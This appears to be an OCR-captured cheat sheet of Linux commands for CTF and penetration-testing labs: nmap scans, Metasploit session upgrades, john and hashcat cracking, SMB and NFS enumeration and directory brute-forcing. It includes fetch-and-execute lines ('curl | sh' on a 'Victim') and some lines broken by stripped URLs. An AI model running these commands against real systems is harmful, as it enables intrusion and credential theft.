Linux commands that are often used by hackers, security professional and CTF players. We will avoid any payloads or oneliner exploits ( will cover in different page sometime). Updated - October 02, 2023.

Add Target to hosts file

└─$ echo ' blue.thm' | sudo tee -a /etc/hosts
[sudo] password for abhinav: blue.thm


#for TCP Scan
sudo nmap -sC -sV -p- -T5 -Pn targethost#for UDP Scan
sudo nmap -sU -sV -p- -T5 -Pn targethost

# Store scan results for portsseparated by comma.
└─$ ports=$(nmap -p- --min-rate=1000 -T4 cronos.htb | grep ^[0-9] | cut -d '/' -f 1 | tr '\n' ',' | sed 's/,$//')# Check which ports are found
└─$ echo $ports

# Pass the information in-p argument as $ports
└─$ sudo nmap -sC -sV -A -O -T5 -p$ports cronos.htb


Start Metasploit with database

# Pass the information in -p argument as $ports
└─$ systemctl start postgresql

└─$ msfdb init
Creating database user 'msf'
Enter password for new role:
Enter it again:
Creating databases 'msf' and 'msf_test'
Creating configuration file in /usr/share/metasploit-framework/config/database.ymlCreating initial database schema

Metasploit Shell Upgrade to Meterpreter

sessions -u 3
sessions -u -1
use post/multi/manage/shell_to_meterpreter
run session=-1

Cracking hash with John└─$ john hash --format=NT --wordlist=/usr/share/wordlists/rockyou.txt

Cracking hash with hashcat

Windows NTLM Hash

hashcat -m 1000 -a 0 hash /usr/share/wordlists/rockyou.txt.gz

Extract Files

Gz Files

gunzip archive.gz

tar Files

tar –xvzf archive.tar.gz

SSH Connection

ssh username@host -oHostKeyAlgorithms=+ssh-dss

Text Filter

grep -i #]- inlcude
grep -v #]- excludeSMB Enumeration


nmap -p 445 --script=smb-enum-shares.nse,smb-enum-users.nse target_HOST
smbclient //IP/directory

Mount NFS Share

make directory locally and mount it

mkdir /mnt/sampleDIR
sudo mount IP:/folder /mnt/sampleDIRget version via banner

nc IP port


From github

curl -L | sh

Python Simple HTTP Server

python3 -m http.server 7777
curl | sh #Victim

Wordpress CMS Vulnerabilty Scanning

wpscan --url https://brainfuck.htb --disable-tls-checks

Directory Enumeration└─$ ffuf -w /usr/share/wordlists/dirbuster/directory-list-2.3-medium.txt -u http://cronos.htb/FUZZ -mc 200,403 -c -t 400

└─$ gobuster dir -u  http://cronos.htb/ --wordlist /usr/share/wordlists/dirbuster/directory-list-2.3-medium.txt --threads 200 --quiet

Reading a File

head -20 filepathandname
tail filename
tail -20 filename
cat filename | grep "word_to_filter"

Replace in File

sed /s/wordtoreplace/wordtoreplacewith/g /filepath > outputfilepath